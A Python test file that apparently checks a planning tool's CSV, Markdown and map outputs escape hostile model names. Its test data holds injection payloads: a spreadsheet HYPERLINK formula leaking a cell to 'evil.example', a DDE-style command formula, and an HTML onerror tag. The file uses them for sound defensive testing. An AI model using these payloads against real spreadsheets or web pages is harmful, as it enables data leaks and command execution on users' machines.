"""The plan's tables hold a model's name as the demand file wrote it: shown, never run (a spreadsheet's formula,
a Markdown table's column or link, an HTML tag, rich markup on the terminal)."""

from __future__ import annotations

import csv
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import numpy as np
import pytest

from aigrid.plan.placement import Placement, PlannedSite
from aigrid.plan.tables import write_tables

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

HOSTILE = ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "a;=1+1", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3", "\t=1", "x|y\n| forged | row |", "<img src=x onerror=alert(1)>", "[link=file:///etc]z[/link]")


def placement() -> Placement:
    return Placement("t", tuple(
        PlannedSite(f"s{i}", "Frankfurt", 50.11, 8.68, "DE", "EU", "h100", 1, 2.5, ((name, 2),))
        for i, name in enumerate(HOSTILE)))


def written(out: Path, name: str = "plan") -> Path:
    """The plan's tables of a plan of placement() written into `out`."""
    demand = SimpleNamespace(name=name, slo=SimpleNamespace(attainment=0.99), verify=SimpleNamespace(policy="aigrid", samples=1))
    result: Any = SimpleNamespace(
        demand=demand, backend="local", screen_s=0.0, verify_s=0.0, runs=0, candidates=[],
        traffic=SimpleNamespace(total=lambda: np.array([1.0])), best=SimpleNamespace(placement=placement(), outcomes=[]),
        proposals=[], naive=[], from_naive=None)
    write_tables(out, result)
    return out


def test_cost_csv_holds_no_formula_whatever_the_separator_and_keeps_numbers(tmp_path: Path) -> None:
    path = written(tmp_path) / "cost.csv"
    for separator in (",", ";", "\t"):  # Excel splits a .csv on the locale's list separator (';' in most of Europe)
        with open(path, newline="") as f:
            rows = list(csv.reader(f, delimiter=separator))
        cells = [c for row in rows for c in row]
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], separator
    with open(path, newline="") as f:
        rows = list(csv.reader(f))
    assert [r[5] for r in rows[1:]] == [
        "'" + HOSTILE[0] + " x 2", "a;'=1+1 x 2", "'" + HOSTILE[2] + " x 2", "'-2+3 x 2", "'\t'=1 x 2",
        HOSTILE[5] + " x 2", HOSTILE[6] + " x 2", HOSTILE[7] + " x 2"]  # the text kept, a ' before each formula
    raw = path.read_text().splitlines()
    assert raw[1].endswith(",2,2.5,5.0,3650.0")  # devices and prices unquoted: a spreadsheet reads numbers


def test_cost_markdown_keeps_one_row_per_site_and_no_tag_or_link(tmp_path: Path) -> None:
    md = (written(tmp_path, "plan\n# forged <b>heading</b>") / "cost.md").read_text()
    lines = md.splitlines()
    assert len(lines) == 2 + 2 + len(HOSTILE) + 1  # the heading, a blank line, the table's head and its rows
    for line in lines[4:-1]:
        assert line.replace("\\|", "").count("|") == 11  # ten columns
    assert "<img" not in md and "&lt;img" in md
    assert "[link" not in md.replace("\\[", "")


def test_the_map_shows_a_plans_name_as_written(tmp_path: Path) -> None:
    """map.png's title holds the demand's name beside the plan's '$' a month: a name with a '$' made the pair
    mathtext, and `aigrid plan` a traceback after its whole search (ParseFatalException: Unknown symbol)."""
    from aigrid.plan.demand import load_demand
    from aigrid.plan.traffic import build_traffic
    from aigrid.plan.worldmap import write_map
    from aigrid.sim.geography import load_cities

    d = load_demand(Path(__file__).resolve().parents[2] / "examples" / "plan" / "small.yaml")
    traffic = build_traffic(d, load_cities(), 20.0)
    path = write_map(tmp_path / "map.png", traffic, placement(), "budget$\\foo: plan, $1,234/month")
    assert path.stat().st_size > 10_000


def test_the_maps_axes_and_sites_say_their_units(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The axes were `longitude` and `latitude` with no unit, and the legend's `plan: h100` said nothing of what a
    marker's size is (thirty-eighth session)."""
    from aigrid.plan import worldmap
    from aigrid.plan.demand import load_demand
    from aigrid.plan.traffic import build_traffic
    from aigrid.sim.geography import load_cities

    d = load_demand(Path(__file__).resolve().parents[2] / "examples" / "plan" / "small.yaml")
    drawn: list[Any] = []
    monkeypatch.setattr(worldmap.plt, "close", drawn.append)
    worldmap.write_map(tmp_path / "map.png", build_traffic(d, load_cities(), 20.0), placement(), "small: plan")
    monkeypatch.undo()
    (ax,) = drawn[0].axes
    assert (ax.get_xlabel(), ax.get_ylabel()) == ("longitude (degrees)", "latitude (degrees)")
    assert any("size ~ devices" in t.get_text() for t in ax.get_legend().get_texts())
    worldmap.plt.close(drawn[0])


def test_cost_markdown_says_the_prefill_chunks_unit(tmp_path: Path) -> None:
    """The `prefill chunk` column was a bare number (2,048): tokens, said in its head."""
    head = (written(tmp_path) / "cost.md").read_text().splitlines()[2]
    assert "| prefill chunk (tokens) |" in head, head
